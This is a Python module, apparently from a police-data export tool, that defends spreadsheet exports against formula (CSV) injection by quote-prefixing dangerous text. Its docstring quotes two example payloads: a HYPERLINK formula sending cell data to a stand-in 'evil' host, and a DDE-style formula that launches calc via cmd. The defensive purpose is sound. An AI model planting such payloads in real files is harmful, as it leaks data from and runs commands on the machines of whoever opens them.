"""Formula-injection defence for every spreadsheet-bound export.

Why this module exists
----------------------
Excel and LibreOffice treat a cell whose text starts with ``=``, ``+``, ``-``
or ``@`` (and, on import, a leading tab or carriage return) as a formula.
Exports carry text that came from police extracts and ultimately from members
of the public -- names, addresses, free-text notes -- so a value such as
``=HYPERLINK("http://evil/?"&A1, "click")`` or ``@SUM(1+1)*cmd|' /C calc'!A0``
would run, or leak data, on an analyst's machine when the file is opened
("CSV injection", OWASP).

The defence depends on the format, and every exporter must use it:

* **CSV** has no cell types, so dangerous text is prefixed with a single quote
  (``'``), as OWASP advises: the spreadsheet shows the text instead of
  evaluating it.  :func:`neutralise_formula` does this, vectorised.
* **XLSX** has typed cells, so the text is written unchanged as a string cell
  (never a formula); see :mod:`adapt.exports.table`.  XlsxWriter and openpyxl
  otherwise turn ``=...`` strings (XlsxWriter also ``{=...}``, an array
  formula) into formulas.

Only text is touched.  Numbers are typed values in both formats: a negative
number stays a number.  A ``{`` on its own is *not* a trigger (JSON text in
``raw`` columns must survive); only ``{=`` is.
"""

from __future__ import annotations

import pandas as pd

#: Leading text that makes a spreadsheet cell a formula.
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "{=")

#: What is put in front of such text in CSV.
QUOTE_PREFIX = "'"


def formula_mask(series: pd.Series) -> pd.Series:
    """Boolean mask: True where the value is text a spreadsheet would evaluate.

    Non-text values (numbers, booleans, dates, missing) are always False.
    """
    if isinstance(series.dtype, pd.CategoricalDtype):
        series = series.astype(object)
    dtype = series.dtype
    if not (pd.api.types.is_string_dtype(dtype) or pd.api.types.is_object_dtype(dtype)):
        return pd.Series(False, index=series.index, dtype=bool)
    try:
        mask = series.str.startswith(FORMULA_PREFIXES, na=False)
    except (AttributeError, TypeError):  # object column without str values (bytes, ints)
        return pd.Series(False, index=series.index, dtype=bool)
    # On a mixed object column non-strings come back as missing: not formulas.
    return mask.fillna(False).astype(bool)


def neutralise_formula(series: pd.Series) -> pd.Series:
    """Prefix ``'`` to every text value that a spreadsheet would evaluate.

    Vectorised; returns a new Series with the same index.  Non-text values and
    missing values are returned unchanged, and a column without text (numbers,
    booleans, dates) is returned as is.  Apply to CSV output only: in XLSX,
    write the original text as a typed string cell instead.
    """
    if isinstance(series.dtype, pd.CategoricalDtype):
        series = series.astype(object)
    mask = formula_mask(series)
    if not mask.any():
        return series
    return series.mask(mask, QUOTE_PREFIX + series.where(mask, ""))
